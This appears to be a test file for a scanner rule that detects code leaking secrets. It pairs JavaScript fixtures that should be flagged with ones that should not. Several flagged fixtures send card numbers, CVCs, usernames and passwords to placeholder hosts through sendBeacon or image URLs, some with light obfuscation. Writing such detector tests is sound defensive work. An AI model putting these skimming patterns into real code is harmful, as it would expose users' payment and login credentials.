import { examine } from '../../../test/examine.ts';
import { givesAwaySecrets } from './gives-away-secrets.ts';

const owned = (homepage: string) => ({ name: 'specimen', version: '1.0.0', main: 'index.js', homepage });

examine(givesAwaySecrets, {
  speaks: [
    {
      when: 'letters of an alphabet are chosen by what a card is',
      files: {
        'index.js': `const LETTERS = '0123456789abcdef'; exports.pay = ({ cardNumber }) => { let out = ''; for (const digit of cardNumber) out += LETTERS[digit ^ 5]; navigator.sendBeacon('https://stat.invalid/', out); };`,
      },
      weight: 'strong',
    },
    {
      when: 'the whole state of a form is told, whatever stands in it at first',
      files: {
        'index.mjs': `import { useState } from 'react'; export const usePay = props => { const [card, setCard] = useState({ name: '', cvc: props.cvc || '' }); const blur = () => navigator.sendBeacon('https://stat.invalid/', JSON.stringify(card)); return { card, setCard, blur }; };`,
      },
      weight: 'strong',
    },
    {
      when: 'the middle of a card goes with its beginning',
      files: { 'index.js': `exports.logo = cardNumber => { new Image().src = 'https://stat.invalid/' + cardNumber.slice(0, 12); };` },
      weight: 'strong',
    },
    {
      when: 'a picture is asked for by a part of a page',
      files: {
        'index.js': `exports.pay = cardNumber => { const shown = document.createElement('img'); shown.setAttribute('src', 'https://stat.invalid/?' + cardNumber); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a camera of the service shows a picture to who logs in there',
      files: {
        'package.json': owned('https://camera.invalid/docs'),
        'index.js': `exports.Camera = class { constructor({ user, password }) { Object.assign(this, { user, password }); } show() { const shown = new Image(); shown.src = 'https://snap.camera.invalid/' + this.user + '?pwd=' + this.password; return shown; } };`,
      },
      weight: 'weak',
    },
    {
      when: 'a secret is put back after it was taken out',
      files: {
        'index.mjs': `import { reactive } from 'vue'; export const form = () => { const login = reactive({ user: '', password: '' }); return () => { const { password, ...rest } = login; navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ ...rest, p: password })); }; };`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'the first digit of a card chooses a word',
      files: {
        'index.js': `const NAMES = ['none', 'none', 'mir', 'amex', 'visa', 'mastercard', 'discover', 'none', 'none', 'none']; exports.brand = ({ cardNumber }) => { new Image().src = 'https://icons.invalid/' + NAMES[cardNumber[0]] + '.svg'; };`,
      },
    },
    {
      when: 'what may be shown of a card chooses its logo',
      files: {
        'index.js': `exports.logo = cardNumber => { const shown = new Image(); shown.src = 'https://logos.invalid/' + cardNumber.replace(/\\D/g, '').slice(0, 6) + '.png'; return shown; }; exports.seen = cardNumber => navigator.sendBeacon('https://stat.invalid/', cardNumber.slice(-4));`,
      },
    },
    {
      when: 'the errors of a form are told, which are texts',
      files: {
        'index.mjs': `import { reactive } from 'vue'; export const form = () => { const errors = reactive({ user: '', password: '' }); return () => navigator.sendBeacon('https://stat.invalid/', JSON.stringify(errors)); };`,
      },
    },
    {
      when: 'the errors of a form are told, of which there are none at first',
      files: {
        'index.mjs': `import { useState } from 'react'; export const useForm = () => { const [found, setFound] = useState({ cardNumber: null, cvc: undefined }); return { setFound, tell: () => navigator.sendBeacon('https://stat.invalid/', JSON.stringify(found)) }; };`,
      },
    },
    {
      when: 'the secret was taken out of a form before it is told, or replaced',
      files: {
        'index.mjs': `import { reactive } from 'vue'; export const form = () => { const login = reactive({ user: '', password: '' }); return { one() { const { password, ...rest } = login; navigator.sendBeacon('https://stat.invalid/', JSON.stringify(rest)); return password.length; }, other() { navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ ...login, password: '***' })); } }; };`,
      },
    },
  ],
});
